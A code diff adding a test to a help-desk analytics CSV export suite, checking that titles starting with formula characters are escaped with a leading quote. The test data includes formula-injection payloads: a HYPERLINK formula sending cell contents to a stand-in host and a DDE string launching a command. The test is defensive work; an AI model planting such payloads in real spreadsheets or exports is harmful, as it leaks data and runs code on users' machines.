@@ -1,4 +1,5 @@
 import assert from 'node:assert/strict';
+import { parse } from 'csv-parse/sync';
 import { randomUUID } from 'node:crypto';
 import { after, before, describe, test } from 'node:test';
 import type { AnalyticsSummary, AnalyticsTrends, AnalyticsWorkload, EventEnvelope } from '@desk/contracts';
@@ -392,6 +393,25 @@ describe('analytics export', () => {
       `${incident.key},${incident.id},"Printer ""Lab, 3rd floor""\nbroken",IN_PROGRESS,MEDIUM,${department},"Facilities, ""East"" wing",${incident.categoryId},,,` +
         `${reporter.user.id},2026-03-02T00:00:00.000Z,2026-03-02T00:30:00.000Z,,,,0,,,,,,1800,\r\n`,
     );
+  });
+
+  test('when text cells start like formulas (=, +, -, @, tab, carriage return), then the CSV keeps them as text (a leading quote), and numbers stay numbers', async () => {
+    const reporter = await h.createUser('reporter');
+    const titles = ['=HYPERLINK("http://x.example/?"&A2,"open")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\tTabbed', '\rReturned', 'Plain title'];
+    const category = randomUUID();
+    for (const [index, title] of titles.entries()) {
+      const incident = snapshot({ departmentId: department, categoryId: category, reporterId: reporter.user.id, createdAt: at(index + 1), title, respondedAt: at(index + 1, 0, 30), status: 'IN_PROGRESS', version: 2 });
+      const event = h.event('incident.status_changed', { incident, actorId: null, from: 'OPEN', to: 'IN_PROGRESS', reason: null });
+      await h.publish(event);
+      await h.handled(event);
+    }
+    const response = await as(h.admin.token)(h.http.get(`/analytics/export.csv?categoryId=${category}`)).expect(200);
+    const rows = parse<Record<string, string>>(response.text, { columns: true });
+    assert.deepEqual(
+      rows.map((row) => row.title),
+      ['\'=HYPERLINK("http://x.example/?"&A2,"open")', '\'+1+cmd|\' /C calc\'!A0', '\'-2+3', '\'@SUM(1,2)', '\'\tTabbed', '\'\rReturned', 'Plain title'],
+    );
+    assert.ok(rows.every((row) => row.seconds_to_acknowledge === '1800'), 'numbers are not text cells');
   });
 
   test('when more facts match than one page holds, then the export streams every one exactly once, oldest first', async () => {
